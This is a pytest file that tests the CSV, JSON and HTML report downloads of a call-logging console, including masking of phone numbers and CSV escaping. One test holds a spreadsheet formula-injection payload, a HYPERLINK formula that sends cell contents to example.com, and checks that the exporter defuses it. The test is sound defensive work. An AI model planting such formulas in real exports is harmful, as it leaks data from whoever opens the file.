"""The listed calls as files that a spreadsheet can open without harm."""

import csv
import io
import json
from dataclasses import replace

import httpx
import pytest

from console.call_source import SourceError
from tests.console.calls_in_memory import CallsInMemory, make_calls
from tests.console.example_call import SID, VIEW
from tests.console.web.pages_client import make_source_client

COLUMNS = "sid,began_at_utc,seconds,caller,called,outcome,outcome_text,destination,attempts,errors"


async def download(source: CallsInMemory, path: str) -> httpx.Response:
    async with make_source_client(source) as client:
        return await client.get(path)


def read_rows(answer: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


async def test_a_call_is_a_row_with_its_numbers_masked() -> None:
    answer = await download(CallsInMemory(VIEW), "/api/calls.csv")

    row = f"{SID},2026-11-28 14:00:00,64,…0001,…0100,talked,talked with Peter for 19 s,sales,1,1"
    assert answer.content.decode("utf-8-sig") == f"{COLUMNS}\r\n{row}\r\n"
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["content-disposition"] == 'attachment; filename="calls.csv"'


async def test_whole_numbers_come_when_asked_and_are_no_formula() -> None:
    answer = await download(CallsInMemory(VIEW), "/api/calls.csv?numbers=1")

    assert [each["caller"] for each in read_rows(answer)] == ["'+15550100001"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
async def test_no_cell_begins_a_formula(start: str) -> None:
    formula = f'{start}HYPERLINK("http://example.com/?"&A1,"Click")'
    summary = replace(VIEW.summary, caller=formula, outcome_text=formula, destination=formula)

    rows = read_rows(await download(CallsInMemory(replace(VIEW, summary=summary)), "/api/calls.csv"))

    assert [rows[0][name] for name in ("caller", "outcome_text", "destination")] == [f"'{formula}"] * 3


async def test_quotes_commas_and_lines_are_read_back_as_they_were() -> None:
    text = 'talked, "at length",\r\nand went\n'
    summary = replace(VIEW.summary, outcome_text=text)

    rows = read_rows(await download(CallsInMemory(replace(VIEW, summary=summary)), "/api/calls.csv"))

    assert rows[0]["outcome_text"] == text


async def test_a_call_that_runs_has_no_length() -> None:
    summary = replace(VIEW.summary, ended_at_ms=None)

    rows = read_rows(await download(CallsInMemory(replace(VIEW, summary=summary)), "/api/calls.csv"))

    assert rows[0]["seconds"] == ""


async def test_half_a_character_does_not_hinder_a_download() -> None:
    summary = replace(VIEW.summary, outcome_text="\ud83d")

    answer = await download(CallsInMemory(replace(VIEW, summary=summary)), "/api/calls.csv")

    assert read_rows(answer)[0]["outcome_text"] == "?"


async def test_no_calls_are_a_header_alone() -> None:
    answer = await download(CallsInMemory(), "/api/calls.csv")

    assert answer.content.decode("utf-8-sig") == f"{COLUMNS}\r\n"


async def test_a_download_has_what_the_query_lists() -> None:
    source = CallsInMemory(VIEW, *make_calls(20))

    answer = await download(source, "/api/calls.csv?day=2026-11-28&outcome=nobody&limit=2")

    assert {each["outcome"] for each in read_rows(answer)} == {"nobody"}
    assert len(read_rows(answer)) == 2
    assert answer.headers["content-disposition"] == 'attachment; filename="calls-2026-11-28.csv"'


async def test_json_has_what_the_list_shows() -> None:
    source = CallsInMemory(VIEW, *make_calls(20))

    answer = await download(source, "/api/calls.json?limit=3")
    listed = await download(source, "/api/calls?limit=3")

    assert json.loads(answer.content) == json.loads(listed.content)
    assert len(json.loads(answer.content)["calls"]) == 3
    assert answer.headers["content-disposition"] == 'attachment; filename="calls.json"'


@pytest.mark.parametrize("path", ["/api/calls.csv", "/api/calls.json"])
async def test_a_download_that_cannot_be_made_says_why(path: str) -> None:
    source = CallsInMemory(VIEW)
    refused = await download(source, f"{path}?limit=-1")
    source.error = SourceError("The stack warmline does not exist: deploy it.")
    failed = await download(source, path)

    assert (refused.status_code, refused.text) == (400, "Expected limit as a number from 1 to 1000, got '-1'.\n")
    assert (failed.status_code, failed.text) == (503, "The stack warmline does not exist: deploy it.\n")


async def test_a_call_is_saved_as_a_report_that_needs_no_server() -> None:
    answer = await download(CallsInMemory(VIEW), f"/api/calls/{SID}/report.html")

    assert answer.headers["content-disposition"] == f'attachment; filename="report-{SID}.html"'
    assert answer.headers["content-type"].startswith("text/html")
    assert "<call-page></call-page>" in answer.text
    assert "+15550100001" not in answer.text


async def test_a_report_has_whole_numbers_when_asked() -> None:
    answer = await download(CallsInMemory(VIEW), f"/api/calls/{SID}/report.html?numbers=1")

    assert "+15550100001" in answer.text


async def test_a_report_of_no_call_is_refused() -> None:
    answer = await download(CallsInMemory(VIEW), f"/api/calls/CA{'0' * 32}/report.html")

    assert answer.status_code == 404
